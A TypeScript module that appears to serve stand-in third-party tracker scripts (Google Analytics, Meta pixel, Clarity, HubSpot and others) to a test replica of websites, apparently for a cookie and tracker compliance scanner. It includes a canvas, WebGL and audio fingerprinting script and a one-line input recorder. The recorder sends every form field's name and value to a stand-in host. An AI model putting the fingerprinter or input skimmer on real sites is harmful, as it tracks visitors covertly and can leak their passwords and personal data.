/**
 * Stand-ins of services that the estate does not have: scripts that set the cookies of the real ones, and the
 * addresses that they report to.
 */
import {
  empty,
  html,
  notFound,
  pixel,
  script,
  style,
  token,
  type Answer,
  type EstateRequest,
} from '../../replica/answer.ts';
import { thirdParties } from '../../replica/third-parties/index.ts';
import { loadScript, thirdPartyCookie } from '../../replica/third-parties/third-party.ts';

const parties = thirdParties('compliant', new Set());

const setter = `var domain = location.hostname.split('.').slice(-2).join('.');
  function set(name, value, lifetime) { if (document.cookie.indexOf(name + '=') < 0) document.cookie = name + '=' + value + (lifetime ? '; Max-Age=' + lifetime : '') + '; Path=/; Domain=' + domain + '; SameSite=Lax; Secure'; }
  function random(length) { var s = ''; while (s.length < length) s += Math.random().toString(36).slice(2); return s.slice(0, length); }`;
const library = (body: string): Answer => script(`(function () { ${setter}\n${body} })();`);
const cors = (request: EstateRequest): Record<string, string> => ({
  'access-control-allow-origin': request.origin === '' ? '*' : request.origin,
  'access-control-allow-credentials': 'true',
});

/**
 * gtag.js with the settings that the estate's has not: consent mode with pings, a prefix, an own server,
 * batches, a user number.
 */
const gtag = (id: string): Answer =>
  library(`
  var layer = window.dataLayer = window.dataLayer || [], consent = null, options = null, started = false, events = [];
  function letter(k) { return !consent ? 'l' : consent[k] === 'granted' ? 't' : 'p'; }
  function allowed(k) { return !consent || consent[k] === 'granted'; }
  function send(event) {
    var granted = allowed('analytics_storage'), client = '', prefix = options.cookie_prefix ? options.cookie_prefix + '_ga' : '_ga', now = Math.floor(Date.now() / 1000);
    if (granted) {
      var known = document.cookie.match(new RegExp('(?:^|; )' + prefix + '=GA1\\\\.1\\\\.([^;]+)'));
      client = known ? known[1] : Math.floor(Math.random() * 2147483647) + '.' + now;
      set(prefix, 'GA1.1.' + client, 63072000);
      set(prefix + '_${id.replace(/^G-/, '')}', 'GS2.1.s' + now + '$o1$g0$t' + now + '$j60$l0$h0', 63072000);
    } else client = Math.floor(Math.random() * 2147483647) + '.' + now;
    var query = new URLSearchParams({ v: '2', tid: '${id}', gtm: '45je5b31v9', _p: String(Date.now()), gcd: '13' + letter('ad_storage') + '3' + letter('analytics_storage') + '3p3p5', npa: '1', dma: '1', cid: client, ul: 'nl-nl', _s: '1', dl: location.href, dt: document.title });
    if (consent) query.set('gcs', 'G1' + (allowed('ad_storage') ? 1 : 0) + (allowed('analytics_storage') ? 1 : 0));
    var to = (options.server_container_url || 'https://region1.google-analytics.com') + '/g/collect?';
    if (options.batch) fetch(to + query, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'en=' + event + '&_et=12' + (options.batch === true ? '' : options.batch) + '\\r\\nen=scroll&epn.percent_scrolled=90' });
    else { query.set('en', event); if (options.user_id) query.set('uid', options.user_id); navigator.sendBeacon(to + query); }
  }
  function command(args) {
    if (args[0] === 'consent') { consent = Object.assign({}, consent, args[2]); if (started && args[1] === 'update') send('page_view'); }
    else if (args[0] === 'config' && args[1] === '${id}') { options = args[2] || {}; started = true; send('page_view'); }
  }
  [].slice.call(layer).forEach(command);
  var push = layer.push;
  layer.push = function () { var r = push.apply(layer, arguments); [].forEach.call(arguments, command); return r; };`);

/** What a webmaster pastes for Google Analytics 4. `consent` is a default for consent mode. */
export const gtagSnippet = (
  id: string,
  options: Readonly<Record<string, unknown>> = {},
  consent?: Readonly<Record<string, string>>,
): string => `window.dataLayer = window.dataLayer || []; window.gtag = window.gtag || function () { dataLayer.push(arguments); };
${consent === undefined ? '' : `gtag('consent', 'default', ${JSON.stringify(consent)});`} gtag('js', new Date()); gtag('config', '${id}', ${JSON.stringify(options)});
${loadScript(`https://www.googletagmanager.com/gtag/js?id=${id}`)}`;

export const classicAnalytics = loadScript('https://ssl.google-analytics.com/ga.js');
export const metaPixel = (
  id: string,
): string => `window.fbq = window.fbq || function () { (fbq.q = fbq.q || []).push([].slice.call(arguments)); }; fbq('init', '${id}'); fbq('track', 'PageView');
${loadScript('https://connect.facebook.net/en_US/fbevents.js')}`;
export const clarity = (id: string): string => loadScript(`https://www.clarity.ms/tag/${id}`);
export const tiktok = loadScript(
  'https://analytics.tiktok.com/i18n/pixel/events.js?sdkid=C9F0QK3C77U&lib=ttq',
);
export const piwikPro = loadScript(
  'https://zorgkeuze.containers.piwik.pro/4a7b1c7e-93d2-4f1e-8a55-0d6fd0c4c5aa.js',
);
export const hubspot = loadScript('https://js.hs-scripts.com/4417912.js');
export const addThis = loadScript('https://s7.addthis.com/js/300/addthis_widget.js#pubid=ra-5f1b2c');
export const fingerprinter = loadScript('https://cdn.apparaatkenmerk.example/fp/v4.js');
export const replay = loadScript('https://opname.meekijker.example/r.js');

const mine: Readonly<Record<string, (request: EstateRequest) => Answer>> = {
  'www.googletagmanager.com': ({ path, query }) =>
    path === '/gtag/js' ? gtag(query.get('id') ?? '') : notFound(),
  'connect.facebook.net': () =>
    library(`set('_fbp', 'fb.1.' + Date.now() + '.' + Math.floor(Math.random() * 1e17), 7776000);
    var id = '';
    function run(c) { if (c[0] === 'init') { id = c[1]; } else new Image().src = 'https://www.facebook.com/tr/?id=' + id + '&ev=' + c[1] + '&dl=' + encodeURIComponent(location.href) + (c[2] ? '&' + new URLSearchParams(c[2]) : ''); }
    ((window.fbq && fbq.q) || []).forEach(run); window.fbq = function () { run([].slice.call(arguments)); };`),
  'www.facebook.com': ({ path }) => (path === '/tr/' ? pixel() : notFound()),
  'www.clarity.ms': () =>
    library(
      `set('_clck', random(7) + '%7C2%7Cfz' + random(1) + '%7C0%7C1843', 31536000); set('_clsk', random(7) + '%7C' + Date.now() + '%7C1%7C1%7Cv.clarity.ms%2Fcollect', 86400); navigator.sendBeacon('https://v.clarity.ms/collect', '{"e":["0.7.20"]}');`,
    ),
  'v.clarity.ms': (request) => empty({ headers: cors(request) }),
  'analytics.tiktok.com': (request) =>
    request.path.startsWith('/i18n/')
      ? library(
          `set('_ttp', random(27), 33696000); set('_tt_enable_cookie', '1', 33696000); navigator.sendBeacon('https://analytics.tiktok.com/api/v2/pixel', '{"event":"Pageview"}');`,
        )
      : empty({ headers: cors(request) }),
  'zorgkeuze.containers.piwik.pro': () =>
    library(
      `set('_pk_id.4a7b1c7e-93d2-4f1e-8a55-0d6fd0c4c5aa.1fff', random(16) + '.' + Math.floor(Date.now() / 1000) + '.1.1.1.', 33955200); set('_pk_ses.4a7b1c7e-93d2-4f1e-8a55-0d6fd0c4c5aa.1fff', '*', 1800); new Image().src = 'https://zorgkeuze.piwik.pro/ppms.php?action_name=x&idsite=4a7b1c7e-93d2-4f1e-8a55-0d6fd0c4c5aa&rec=1&_id=' + random(16) + '&url=' + encodeURIComponent(location.href);`,
    ),
  'zorgkeuze.piwik.pro': () => pixel(),
  'js.hs-scripts.com': () =>
    library(
      `var u = random(32); set('hubspotutk', u, 15552000); set('__hstc', '2517.' + u + '.1.1.1.1', 15552000); set('__hssc', '2517.1.1', 1800); set('__hssrc', '1'); new Image().src = 'https://track.hubspot.com/__ptq.gif?k=1&a=4417912&vi=' + u;`,
    ),
  'track.hubspot.com': () => pixel(),
  's7.addthis.com': () =>
    library(
      `set('__atuvc', '1%7C47', 34128000); set('__atuvs', random(16), 1800); new Image().src = 'https://m.addthis.com/live/red_lojson/300lo.json?si=' + random(12);`,
    ),
  'm.addthis.com': () => pixel({ cookies: [thirdPartyCookie('uid', token(16), 'addthis.com', 395)] }),
  'player.vimeo.com': () =>
    html('<!doctype html><title>Vimeo</title><body style="background:#000">', {
      cookies: [thirdPartyCookie('vuid', `pl${token(10)}`, 'vimeo.com', 730)],
    }),
  'fonts.googleapis.com': () =>
    style('@font-face{font-family:Lato;src:url(https://fonts.gstatic.com/s/lato/v24/l.woff2)}'),
  'fonts.gstatic.com': () => ({
    status: 200,
    type: 'font/woff2',
    body: 'x',
    headers: { 'access-control-allow-origin': '*' },
  }),
  'www.google.com': (request) =>
    request.path.startsWith('/recaptcha/')
      ? script('window.grecaptcha = { ready: function () {} };')
      : estate(request),
  'ssl.google-analytics.com': (request) =>
    request.path !== '/ga.js'
      ? estate(request)
      : library(`var n = Math.floor(Math.random() * 1e9), t = Math.floor(Date.now() / 1000), v = '18.' + n + '.' + t + '.' + t + '.' + t + '.1'; set('__utma', v, 63072000); set('__utmb', '18.1.10.' + t, 1800); set('__utmc', '18'); set('__utmz', '18.' + t + '.1.1.utmcsr=(direct)', 15768000);
    new Image().src = 'https://ssl.google-analytics.com/__utm.gif?utmwv=5.7.2&utmn=' + n + '&utmhn=' + location.hostname + '&utmac=UA-1843217-1&utmp=' + encodeURIComponent(location.pathname) + '&utmcc=' + encodeURIComponent('__utma=' + v + ';');`),
  'terug.advertentieveiling.example': ({ query }) => ({
    status: 302,
    type: 'text/plain',
    body: '',
    headers: { location: /^https:\/\/[\w.-]+-voorbeeld\.nl\/\S*$/.exec(query.get('naar') ?? '')?.[0] ?? '/' },
    cookies: [thirdPartyCookie('uid', token(22), 'advertentieveiling.example', 365)],
  }),
  'advertentieveiling.example': () =>
    pixel({ cookies: [thirdPartyCookie('uid', token(22), 'advertentieveiling.example', 365)] }),
  'widget.agendaplein.example': () =>
    html(
      `<!doctype html><title>Agenda</title><script>localStorage.setItem('ap_bezoeker', crypto.randomUUID());</script><p>Agenda</p>`,
      { cookies: [thirdPartyCookie('ap_uid', crypto.randomUUID(), 'agendaplein.example', 730)] },
    ),
  'cdn.apparaatkenmerk.example': () =>
    script(`(function () {
    var c = document.createElement('canvas'); c.width = 240; c.height = 60; var x = c.getContext('2d'); x.textBaseline = 'top'; x.font = '14px Arial'; x.fillStyle = '#f60'; x.fillRect(125, 1, 62, 20); x.fillStyle = '#069'; x.fillText('Cwm fjordbank glyphs vext quiz, 😃', 2, 15);
    var parts = [c.toDataURL(), navigator.userAgent, navigator.language, navigator.hardwareConcurrency, navigator.deviceMemory, navigator.platform, navigator.maxTouchPoints, screen.width, screen.height, screen.colorDepth, new Date().getTimezoneOffset(), navigator.plugins.length];
    try { var gl = document.createElement('canvas').getContext('webgl'), info = gl && gl.getExtension('WEBGL_debug_renderer_info'); if (info) parts.push(gl.getParameter(info.UNMASKED_RENDERER_WEBGL), gl.getParameter(info.UNMASKED_VENDOR_WEBGL)); } catch (e) {}
    'Arial,Calibri,Cambria,Consolas,Courier,Georgia,Helvetica,Impact,Tahoma,Times,Trebuchet MS,Verdana,Futura,Garamond,Optima,Palatino,Rockwell,Monaco,Menlo,Geneva,Didot,Baskerville,Candara,Corbel,Constantia,Segoe UI,Lucida,Gill Sans,Franklin,Century,Bodoni,Perpetua,Papyrus,Skia,Zapfino,Chalkboard,Hoefler,Copperplate,Luminari,Avenir,Cochin,Noto,Roboto,Ubuntu,Cantarell,DejaVu,Liberation,Open Sans,Lato,Oswald,Merriweather,Raleway'.split(',').forEach(function (f) { x.font = '72px "' + f + '"'; parts.push(x.measureText('mmmmmmmmmmlli').width); });
    try { var audio = new OfflineAudioContext(1, 5000, 44100), o = audio.createOscillator(), k = audio.createDynamicsCompressor(); o.connect(k); k.connect(audio.destination); o.start(0); audio.startRendering().then(function (b) { done(b.getChannelData(0).slice(4500).join('')); }, function () { done(''); }); } catch (e) { done(''); }
    function done(a) { var s = parts.join('|') + a, h = 5381; for (var i = 0; i < s.length; i++) h = (h * 33 ^ s.charCodeAt(i)) >>> 0; fetch('https://in.apparaatkenmerk.example/v4', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ visitor: h.toString(16), parts: parts.slice(1) }) }); }
  })();`),
  'in.apparaatkenmerk.example': (request) => empty({ headers: cors(request) }),
  'opname.meekijker.example': (request) =>
    request.path === '/r.js'
      ? script(
          `document.addEventListener('input', function (event) { navigator.sendBeacon('https://opname.meekijker.example/i', JSON.stringify({ field: event.target.name, value: event.target.value })); }, true);`,
        )
      : empty({ headers: cors(request) }),
  'beelden.fotobank.example': () => pixel(),
};

function estate(request: EstateRequest): Answer {
  return parties.find(({ hosts }) => hosts.includes(request.host))?.answer(request) ?? notFound();
}

export const standInHosts: readonly string[] = [
  ...new Set([...Object.keys(mine), ...parties.flatMap(({ hosts }) => hosts)]),
];

export const standIn = (request: EstateRequest): Answer | undefined =>
  standInHosts.includes(request.host) ? (mine[request.host] ?? estate)(request) : undefined;
